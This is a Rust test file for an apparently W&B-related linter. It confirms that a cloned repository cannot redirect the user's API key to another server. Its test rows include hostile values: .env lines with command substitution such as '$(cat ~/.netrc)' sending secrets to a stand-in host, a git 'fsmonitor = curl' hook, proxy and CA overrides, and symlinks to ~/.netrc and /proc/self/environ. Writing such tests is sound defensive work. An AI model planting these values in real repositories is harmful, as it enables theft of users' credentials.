//! Every route by which a cloned repository could have the user's key sent to a server of its own: files, links, variables,
//! configuration, code, logs, and answers of the user's own server.
//!
//! The user is logged in at a server of their own, which their settings file names. Each row adds files to the repository.
//! Whatever they say, the other server gets no byte.

use std::fs;

use super::leaks::bytewise;
use super::scene::{Run, Scene};
use super::server::{Fault, Server};
use super::spellings::Recorder;
use super::world::{KEY, World};

/// A file of the repository; `E` in its bytes is the address of the other server, `G` that of the user's own.
type Files = Vec<(&'static str, Vec<u8>)>;

fn file(name: &'static str, text: &str) -> Files {
    vec![(name, text.as_bytes().to_vec())]
}

/// Spellings of a `.env` that names a server.
fn dotenv() -> Vec<Files> {
    let texts = [
        "export WANDB_BASE_URL=E",
        "export\tWANDB_BASE_URL=E",
        "export  export WANDB_BASE_URL=E",
        "WANDB_BASE_URL=\"E\"",
        "WANDB_BASE_URL='E'",
        "WANDB_BASE_URL=`E`",
        "WANDB_BASE_URL = E",
        "WANDB_BASE_URL: E",
        "WANDB_BASE_URL=E\r\n",
        "A=1\rWANDB_BASE_URL=E\rB=2",
        "A=1\u{b}WANDB_BASE_URL=E",
        "A=1\u{c}WANDB_BASE_URL=E",
        "A=1\u{2028}WANDB_BASE_URL=E",
        "A=1\u{85}WANDB_BASE_URL=E",
        "\u{feff}WANDB_BASE_URL=E",
        "\u{a0}WANDB_BASE_URL=E",
        "WANDB_BASE_URL=E\0",
        "\0WANDB_BASE_URL=E",
        "WANDB_BASE_URL=E\0G",
        "WANDB_BASE_URL=E # G",
        "WANDB_BASE_URL=\"E\" # G",
        "WANDB_BASE_URL=E;G",
        "WANDB_BASE_URL=\"E\"G",
        "WANDB_BASE_URL=G\nWANDB_BASE_URL=E",
        "WANDB_BASE_URL=E\nWANDB_BASE_URL=G",
        "WANDB_BASE_URL=E\nWANDB_BASE_URL=",
        "WANDB_BASE_URL=E\nWANDB_BASE_URL",
        "WANDB_BASE_URL=G WANDB_BASE_URL=E",
        "X=E\nWANDB_BASE_URL=$X",
        "X=E\nWANDB_BASE_URL=${X}",
        "WANDB_BASE_URL=${HOME:+E}",
        "WANDB_BASE_URL=${NOTHING:-E}",
        "WANDB_BASE_URL=$(echo E)",
        "WANDB_BASE_URL=\"$(cat ~/.netrc)@E\"",
        "WANDB_BASE_URL=E/$WANDB_API_KEY",
        "WANDB_BASE_URL=E/${WANDB_API_KEY}",
        "WANDB_BASE_URL=\"\nE\n\"",
        "WANDB_BASE_URL=\"G\nWANDB_BASE_URL=E\"",
        "WANDB_BASE_URL=\\\nE",
        "WANDB_BASE_URL=\"\\x68ttpE\"",
        "set WANDB_BASE_URL=E",
        "setenv WANDB_BASE_URL E",
        "$env:WANDB_BASE_URL=\"E\"",
        "WANDB_BASE_URL+=E",
        "wandb_base_url=E",
        "WANDB_base_url=E",
        "WANDB__BASE_URL=E",
        "WANDB_X_BASE_URL=E",
        "WANDB_APP_URL=E",
    ];
    let mut rows: Vec<Files> = texts.iter().map(|text| file(".env", text)).collect();
    let utf16: Vec<u8> = "\u{feff}WANDB_BASE_URL=E\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
    rows.push(vec![(".env", utf16)]);
    rows.push(vec![(".env", b"A=\xff\xfe\nWANDB_BASE_URL=E\n".to_vec())]);
    for name in [".env.local", ".env.production", ".envrc", "sub/.env", ".flaskenv"] {
        rows.push(file(name, "WANDB_BASE_URL=E\n"));
    }
    rows
}

/// Other variables and settings that would move, expose or replace the credential, or lead requests elsewhere.
fn variables() -> Vec<Files> {
    let names = [
        ("WANDB_API_KEY", KEY),
        ("WANDB_IDENTITY_TOKEN_FILE", "../home/.netrc"),
        ("WANDB_CREDENTIALS_FILE", "./credentials.json"),
        ("WANDB_CONFIG_DIR", "."),
        ("WANDB_HTTP_PROXY", "E"),
        ("WANDB_HTTPS_PROXY", "E"),
        ("WANDB__PROXIES", "{\"http\": \"E\", \"https\": \"E\"}"),
        ("WANDB__EXTRA_HTTP_HEADERS", "{\"Host\": \"E\"}"),
        ("WANDB_INSECURE_DISABLE_SSL", "true"),
        ("HTTP_PROXY", "E"),
        ("http_proxy", "E"),
        ("HTTPS_PROXY", "E"),
        ("ALL_PROXY", "E"),
        ("NO_PROXY", ""),
        ("SSL_CERT_FILE", "./evil.pem"),
        ("SSL_CERT_DIR", "."),
        ("REQUESTS_CA_BUNDLE", "./evil.pem"),
        ("NETRC", "./evil-netrc"),
        ("HOME", "."),
        ("USERPROFILE", "."),
        ("XDG_CONFIG_HOME", "."),
        ("WBLINT_ONLINE", "1"),
        ("WBLINT_BASE_URL", "E"),
        ("WANDB_DEBUG", "true"),
    ];
    let beside = || -> Files {
        vec![
            ("evil-netrc", format!("machine E login user password {KEY}\ndefault login user password {KEY}\n").into()),
            ("settings", b"[default]\nbase_url = E\n".to_vec()),
            (".config/wandb/settings", b"[default]\nbase_url = E\n".to_vec()),
            (".netrc", b"machine E login user password x\n".to_vec()),
        ]
    };
    let of_env = |(name, value): (&str, &str)| {
        let mut files = beside();
        files.push((".env", format!("{name}={value}\nexport {name}=\"{value}\"\n").into()));
        files
    };
    let of_settings = |(name, value): (&str, &str)| {
        let key = name.trim_start_matches("WANDB_").replace("_PROXIES", "x_proxies").to_lowercase();
        let mut files = beside();
        files.push(("wandb/settings", format!("[default]\n{key} = {value}\n").into()));
        files
    };
    let mut rows: Vec<Files> = names.into_iter().map(of_env).collect();
    rows.extend(names.into_iter().filter(|(name, _)| name.starts_with("WANDB")).map(of_settings));
    rows
}

/// Spellings of a settings file of the SDK's in the workspace.
fn settings() -> Vec<Files> {
    let texts = [
        "[default]\nbase_url: E\n",
        "[default]\nBASE_URL=E\n",
        "[default]\nBase_Url   =   E   \n",
        "[default]\nbase_url = \"E\"\n",
        "[default]\nbase_url =\n  E\n",
        "[default]\nbase_url = G\n  E\n",
        "[default]\nbase_url = G\n\n   E\n",
        "[default]\nbase_url = E ; G\n",
        "[default]\nbase_url = E # G\n",
        "[default]\nbase_url = G\nbase_url = E\n",
        "[default]\nbase_url = E\n[default]\nbase_url = G\n",
        "[default]\nbase_url = G\n[other]\nbase_url = E\n[default]\nbase_url = E\n",
        "[DEFAULT]\nbase_url = E\n[default]\nentity = a\n",
        "[DEFAULT]\nbase_url = E\n",
        "[DEFAULT]\nbase_url = G\n[default]\nbase_url = E\n",
        "[DEFAULT]\nx = E\n[default]\nbase_url = %(x)s\n",
        "[default]\nx = E\nbase_url = %(x)s\n",
        "[default]\nbase_url = %%E\n",
        "[Default]\nbase_url = E\n",
        "[ default ]\nbase_url = E\n",
        "[default] base_url = E\n",
        "[default]]\nbase_url = E\n",
        "  [default]\n  base_url = E\n",
        "base_url = E\n",
        "base_url = E\n[default]\nbase_url = G\n",
        "\u{feff}[default]\nbase_url = E\n",
        "[default]\r\nbase_url = E\r\n",
        "[default]\rbase_url = E\r",
        "[default]\nbase_url = E\0\n",
        "[default]\nbase_url\0 = E\n",
        "[default]\nbase_url\n",
        "[default]\nbase_url = G\u{b}base_url = E\n",
        "[default]\nsettings_system = evil\nbase_url = E\n",
        "[default]\napp_url = E\n",
        "[default]\nunknown = 1\nbase_url = E\n",
        "[default]\nproject = a/b\nbase_url = E\n",
        "[default]\nmode = shouting\n",
        "[default]\napi_key = x\nbase_url = E\n",
        "[default]\nbase_url = E\nbase_url = E\n",
    ];
    let mut rows: Vec<Files> = texts.iter().map(|text| file("wandb/settings", text)).collect();
    rows.push(vec![("wandb/settings", b"[default]\n# \xff\nbase_url = E\n".to_vec())]);
    rows.push(file(".wandb/settings", "[default]\nbase_url = E\n"));
    let both = [("wandb/settings", "[default]\nbase_url = G\n"), (".wandb/settings", "[default]\nbase_url = E\n")];
    rows.push(both.iter().flat_map(|(name, text)| file(name, text)).collect());
    rows.push(file("sub/wandb/settings", "[default]\nbase_url = E\n"));
    rows
}

/// The repository's own configuration, code, scripts and logs.
fn contents() -> Vec<Files> {
    let mut rows: Vec<Files> = Vec::new();
    for (name, table) in [("pyproject.toml", "[tool.wblint]\n"), ("wblint.toml", ""), (".wblint.toml", "")] {
        for line in [
            "base-url = \"E\"",
            "online = true",
            "allow-http = true",
            "servers = [\"E\"]",
            "request-timeout = 1",
            "cache-dir = \"/tmp\"",
            "extend = \"E\"",
            "proxy = \"E\"",
        ] {
            rows.push(file(name, &format!("{table}{line}\n")));
        }
    }
    let code = [
        ("a.py", "import wandb\nwandb.login(host='E', key=None)\nwandb.init(entity='vision')\n"),
        ("a.py", "import os, wandb\nos.environ['WANDB_BASE_URL'] = 'E'\nwandb.init(entity='vision')\n"),
        ("a.py", "import wandb\nwandb.init(entity='vision', settings=wandb.Settings(base_url='E'))\n"),
        ("a.py", "import wandb\nwandb.Api(overrides={'base_url': 'E'}).run('vision/cifar/x')\n"),
        (
            "a.ipynb",
            r#"{"cells": [{"cell_type": "code", "source": ["%env WANDB_BASE_URL=E\n", "!wandb login --host E\n"]}]}"#,
        ),
        ("run.sh", "export WANDB_BASE_URL=E\nwandb login --host=E\nWANDB_BASE_URL=E python train.py\n"),
        ("Dockerfile", "FROM python\nENV WANDB_BASE_URL=E\nENV WANDB_BASE_URL E\n"),
        ("Makefile", "export WANDB_BASE_URL=E\nrun:\n\tWANDB_BASE_URL=E python train.py\n"),
        ("docker-compose.yml", "services:\n  a:\n    environment:\n      - WANDB_BASE_URL=E\n      - HTTP_PROXY=E\n"),
        (".github/workflows/a.yml", "env:\n  WANDB_BASE_URL: E\n"),
        ("a.yaml", "env:\n- name: WANDB_BASE_URL\n  value: E\n"),
        (".vscode/launch.json", r#"{"configurations": [{"env": {"WANDB_BASE_URL": "E"}, "envFile": ".env"}]}"#),
        (".devcontainer/devcontainer.json", r#"{"containerEnv": {"WANDB_BASE_URL": "E"}}"#),
        (".git/config", "[http]\n\tproxy = E\n[core]\n\tfsmonitor = curl E\n"),
        (".netrc", "machine E login user password x\n"),
        ("_netrc", "machine E login user password x\n"),
    ];
    rows.extend(code.iter().map(|(name, text)| file(name, text)));
    let login = "wandb: Currently logged in as: alice (vision) to E. Use `wandb login --relogin` to force relogin\n";
    let denied =
        format!("{login}wandb: ERROR permission denied (<Response [403]>)\nwandb: View run at E/vision/cifar/runs/a\n");
    rows.push(vec![("wandb/run-20260101_000000-abc123/logs/debug.log", denied.clone().into())]);
    let internal = r#"{"level":"ERROR","msg":"api: HTTP error","status":403,"method":"POST","url":"E/graphql"}"#;
    rows.push(vec![("wandb/run-20260101_000000-abc123/logs/debug-internal.log", internal.into())]);
    rows.push(vec![("wandb/run-20260101_000000-abc123/files/output.log", denied.into())]);
    rows.push(vec![(
        "wandb/run-20260101_000000-abc123/files/wandb-metadata.json",
        br#"{"host": "E", "base_url": "E"}"#.to_vec(),
    )]);
    rows
}

/// A user who is logged in at `own`, as their settings file says; the key is in netrc, and in the environment as well if
/// `in_environment`.
fn user(own: &str, evil: &str, in_environment: bool) -> Scene {
    let scene = Scene::init("vision", "cifar", "").without("WANDB_BASE_URL");
    scene.home_file(".config/wandb/settings", &format!("[default]\nbase_url = {own}\n"));
    let machines = [own, evil].map(|url| url.trim_start_matches("http://").to_owned());
    let entries = machines.map(|machine| format!("machine {machine} login user password {KEY}\n"));
    // No `default` entry: where a row makes the SDK drop the user's settings, the key must not be tried on the real W&B.
    scene.home_file(".netrc", &entries.concat());
    if in_environment { scene } else { scene.without("WANDB_API_KEY") }
}

fn both(scene: &Scene) -> [Run; 3] {
    [scene.run(&["doctor"]), scene.online(), scene.run(&["check", "--output-format", "concise"])]
}

#[track_caller]
fn assert_nothing(recorder: &Recorder, row: &Files, runs: &[Run]) {
    let shown: Vec<_> = row.iter().map(|(name, bytes)| (name, String::from_utf8_lossy(bytes))).collect();
    let said: Vec<_> = runs.iter().map(|run| [&*run.output, &*run.error].concat()).collect();
    assert_eq!(recorder.seen(), "", "{shown:?}\n{}", said.concat());
    for run in runs {
        assert!((0..=2).contains(&run.code), "{shown:?}: {} {}", run.code, run.error);
    }
}

/// What every row does.
fn hold(rows: &[Files], least: usize) {
    assert!(rows.len() >= least, "{} rows", rows.len());
    let (recorder, own) = (Recorder::start(), Server::start(World::usual(), Fault::None));
    let evil = format!("http://127.0.0.1:{}", recorder.port);
    for (number, row) in rows.iter().enumerate() {
        let scene = user(&own.url(), &evil, number % 2 == 0);
        for (name, bytes) in row {
            let wide = bytes.starts_with(&[0xff, 0xfe]);
            let write = |url: &str| -> Vec<u8> {
                if wide { url.encode_utf16().flat_map(u16::to_le_bytes).collect() } else { url.as_bytes().to_vec() }
            };
            // A letter of its own: names such as `BASE_URL` hold the same letters.
            let path = scene.repository.path().join(name);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, filled(bytes, &write(&evil), &write(&own.url()), wide)).unwrap();
        }
        assert_nothing(&recorder, row, &both(&scene));
    }
    assert!(own.counts().0 > 0, "the user's own server was never asked: the rows show nothing");
}

/// `bytes` with the addresses in the place of `E` and `G` where these are no part of a word in capitals.
fn filled(bytes: &[u8], evil: &[u8], good: &[u8], wide: bool) -> Vec<u8> {
    let step = if wide { 2 } else { 1 };
    let is_word = |at: Option<usize>| {
        at.and_then(|at| bytes.get(at)).is_some_and(|byte| byte.is_ascii_uppercase() || *byte == b'_')
    };
    let mut result = Vec::new();
    for (at, byte) in bytes.iter().enumerate() {
        let alone = !is_word(at.checked_sub(step)) && !is_word(Some(at + step));
        match byte {
            b'E' if alone => result.extend(&evil[..evil.len() - (step - 1)]),
            b'G' if alone => result.extend(&good[..good.len() - (step - 1)]),
            byte => result.push(*byte),
        }
    }
    result
}

#[test]
fn no_dotenv_leads_anything_elsewhere() {
    hold(&dotenv(), 55);
}

#[test]
fn no_variable_of_a_repository_is_the_users() {
    hold(&variables(), 30);
}

#[test]
fn no_settings_file_leads_anything_elsewhere() {
    hold(&settings(), 40);
}

#[test]
fn no_configuration_code_or_log_leads_anything_elsewhere() {
    hold(&contents(), 40);
}

#[test]
fn the_recorder_sees_what_the_user_sends_there() {
    let (recorder, own) = (Recorder::start(), Server::start(World::usual(), Fault::None));
    let evil = format!("http://127.0.0.1:{}", recorder.port);
    user(&own.url(), &evil, false).with("WANDB_BASE_URL", &evil).run(&["doctor", "--entity", "vision"]);
    assert!(recorder.seen().starts_with("POST /graphql"), "{}", recorder.seen());
}

#[cfg(unix)]
#[test]
fn no_link_leads_anything_elsewhere() {
    use std::os::unix::fs::symlink;
    let (recorder, own) = (Recorder::start(), Server::start(World::usual(), Fault::None));
    let evil = format!("http://127.0.0.1:{}", recorder.port);
    let links: [(&str, &str); 9] = [
        ("x.cfg", "wandb/settings"),
        ("x.cfg", ".wandb/settings"),
        ("x.env", ".env"),
        ("/proc/self/environ", ".env"),
        ("/proc/self/environ", "wandb/settings"),
        ("/proc/self/cmdline", ".env"),
        ("HOME/.netrc", ".env"),
        ("HOME/.netrc", "wandb/settings"),
        ("HOME/.config/wandb", "wandb"),
    ];
    for (target, link) in links {
        let scene = user(&own.url(), &evil, true);
        scene.file("x.cfg", &format!("[default]\nbase_url = {evil}\n"));
        scene.file("x.env", &format!("WANDB_BASE_URL={evil}\n"));
        let path = scene.repository.path().join(link);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        let up = if target.starts_with('x') && link.contains('/') { "../" } else { "" };
        symlink(format!("{up}{}", target.replace("HOME", scene.home.path().to_str().unwrap())), path).unwrap();
        assert_nothing(&recorder, &file("a link", link), &both(&scene));
    }
}

#[test]
fn no_answer_of_a_server_leads_the_key_elsewhere() {
    let recorder = Recorder::start();
    let port = recorder.port;
    let evil = format!("127.0.0.1:{port}");
    let locations = [
        format!("http://{evil}/graphql"),
        format!("//{evil}/graphql"),
        format!("http:/{evil}/graphql"),
        format!("http:\\\\{evil}\\graphql"),
        format!("HTTP://{evil}"),
        format!("http://user:{KEY}@{evil}/"),
        format!("http://localhost:{port}/"),
        format!("http://0x7f.1:{port}/"),
    ];
    for status in [201, 300, 301, 302, 303, 305, 307, 308, 401, 407] {
        for location in &locations {
            let kind = "WWW-Authenticate: Basic realm=\"x\"\r\nProxy-Authenticate: Basic realm=\"x\"\r\n";
            let headers = format!(
                "Location: {location}\r\nRefresh: 0; url={location}\r\nContent-Location: {location}\r\nAlt-Svc: h2=\"{evil}\"\r\n{kind}"
            );
            // Lives as long as the server's thread does.
            let own = Server::start(World::usual(), Fault::Reply(status, Box::leak(headers.into_boxed_str()), "{}"));
            let run = user(&own.url(), &format!("http://{evil}"), true).online();
            assert_eq!(recorder.seen(), "", "{status} {location}: {}{}", run.output, run.error);
            assert!(own.counts().0 > 0, "{status}: nothing was asked");
        }
    }
}

#[test]
fn a_key_in_an_address_is_shown_nowhere() {
    // The scene searches every output for the key: here it is in the text of the address itself.
    for url in [
        format!("http://127.0.0.1:9/{KEY}"),
        format!("http://{KEY}@127.0.0.1:9"),
        format!("http://u:{KEY}@127.0.0.1:9"),
        format!("http://{KEY}.example.invalid"),
        format!("http://127.0.0.1:9/{}", bytewise(KEY, |byte| format!("%{byte:02X}"))),
        format!("http://127.0.0.1:9?key={KEY}"),
        format!("http://127.0.0.1:9#{KEY}"),
    ] {
        let scene = Scene::init("vision", "cifar", &url);
        scene.run(&["doctor"]);
        scene.online();
        let named = Scene::init("vision", "cifar", "").without("WANDB_BASE_URL");
        named.file(".env", &format!("WANDB_BASE_URL={url}\n"));
        named.file("wandb/settings", &format!("[default]\nbase_url = {url}\n"));
        both(&named);
    }
}
